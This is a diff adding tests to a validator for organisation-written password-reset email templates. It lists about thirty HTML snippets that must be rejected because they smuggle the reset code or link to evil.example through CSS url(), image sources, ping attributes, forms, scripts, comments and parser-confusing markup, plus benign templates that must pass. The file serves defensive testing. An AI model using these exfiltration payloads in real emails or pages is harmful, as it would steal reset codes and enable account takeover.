@@ -158,6 +158,67 @@ describe('what an org may write', () => {
     ],
     ['too much', { html: `\${link}${'a'.repeat(HTML_MAX)}` }, /^html: The field cannot exceed 100000 characters$/],
   ]
+  const leaks: readonly [what: string, html: string][] = [
+    ['in a style', '<style>p{background:url(https://evil.example/?c=${code})}</style>'],
+    ['in a style that never ends', '<style>p{background:url(https://evil.example/?c=${code})}'],
+    [
+      'in a style that another tag seems to end',
+      '<style></b>a{background:url(https://evil.example/?c=${code})}</STYLE >',
+    ],
+    ['behind a > within quotes', '<img src="https://evil.example/?>${link}">'],
+    ['behind a > within other quotes', `<img alt='>' src="https://evil.example/?\${link}">`],
+    ['behind a > in another attribute', '<img alt=">" src="https://evil.example/?${link}">'],
+    ['in quotes that never end', '<img src="https://evil.example/?>${code}'],
+    ['in an unquoted value', '<img src=https://evil.example/?${code}>'],
+    ['in single quotes', "<img src='https://evil.example/?${code}'>"],
+    ['as the whole address of something else', '<img src="${link}">'],
+    ['as the address of a style sheet', '<link rel="stylesheet" href="${link}">'],
+    ['in a second address', '<a href="https://evil.example" href="${link}">a</a>'],
+    ['in a link that pings', '<a href="${link}" ping="https://evil.example">a</a>'],
+    ['as a link and more', '<a href="${link}" title="${code}">a</a>'],
+    ['in a style attribute', '<p style="background:url(https://evil.example/?${code})">a</p>'],
+    ['in a closing tag', '</a href="${link}">'],
+    ['in the name of a tag', '<${login} src="https://evil.example">'],
+    ['where a missing name would make a tag', '< ${firstName}img src="https://evil.example/?x=\n${code}\n">'],
+    ['in a comment', '<!-- ${code} -->'],
+    ['behind a comment that ends at once', '<!--><img alt="-->" src="https://evil.example/?${code}">'],
+    ['behind a comment that ends with !', '<!-- --!><img alt="-->" src="https://evil.example/?${code}">'],
+    ['in a comment of another kind', '<!x ${code}>'],
+    [
+      'in a title that a missing name ends',
+      '<title>a</ti${firstName}tle><img src="https://evil.example/?</title>\n${code}',
+    ],
+    ['behind a title whose end has quotes', `<title></title a="><a b='"><img src="'>\${code}">`],
+    ['in a tag of many lines', '<a\nhref="${link}"\ntitle="a">a</a>'],
+    [
+      'where a line that is left out opens what follows',
+      '<b title="\n${?appLabel}">\n<img src="https://evil.example/?\n${code}\n">',
+    ],
+    ['in what is sent', '<form action="https://evil.example"><textarea name="c">${code}</textarea></form>'],
+    ['in a script', '<script>new Image().src = "https://evil.example/?${code}"</script>'],
+    ['in a drawing', `<svg><![CDATA[><a title="]]><img src='">\${code}'>`],
+  ]
+  for (const [what, html] of leaks)
+    test(`no variable ${what}`, () =>
+      assert.throws(
+        () => checkTemplate('forgot-password', { ...good, html: `<p>\${link}</p>\n${html}` }),
+        ({ code, facts }) => code === 'validation_failed' && /^html: /.test(facts.causes[0]),
+      ))
+
+  const kept: readonly [what: string, html: string][] = [
+    [
+      'a document',
+      '<!DOCTYPE html>\n<html><head><title>${orgName}</title>\n<style>\np > a { color: red }\n</style></head>',
+    ],
+    ['a tag of many lines without one', '<table\n  width="100%"\n><tr><td title="a > b">'],
+    ['a comment', '<!--[if mso]>\n<table><tr><td>\n<![endif]-->'],
+    ['a link in capitals with a style', `<A CLASS=button HREF="\${link}" style='color:red'>Go, \${firstName}</A>`],
+    ['a sign that opens nothing', '<p>1 < 2, 3 > 2 & ${code}</p>'],
+    ['an empty element', '<br/><img src="https://id.example.com/logo.png" alt=""/>${code}'],
+  ]
+  for (const [what, html] of kept)
+    test(`but ${what}`, () => checkTemplate('forgot-password', { ...good, html: `\${link}\n${html}` }))
+
   test('what keeps the rules', () => checkTemplate('forgot-password', good))
   for (const [what, change, cause] of refused)
     test(`not ${what}`, () =>
